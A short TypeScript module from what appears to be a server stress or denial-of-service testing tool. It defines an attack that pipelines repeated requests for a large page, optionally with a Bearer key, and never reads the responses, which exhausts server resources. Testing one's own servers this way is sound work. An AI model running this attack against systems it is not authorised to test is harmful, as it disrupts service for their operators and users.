import { type Attack, silentReaders } from './target.ts';

/** Asks for as many large pages as a connection may have under way, and reads nothing. */
export const run: Attack = (target, signal, connections) => {
  const { path, apiKey } = target.page ?? { path: '/docs/swagger-ui-bundle.js', apiKey: null };
  const credential = apiKey === null ? '' : `Authorization: Bearer ${apiKey}\r\n`;
  const requests = `GET ${path} HTTP/1.1\r\nHost: a\r\n${credential}\r\n`.repeat(4);
  return silentReaders(target, signal, connections, Buffer.from(requests), false);
};
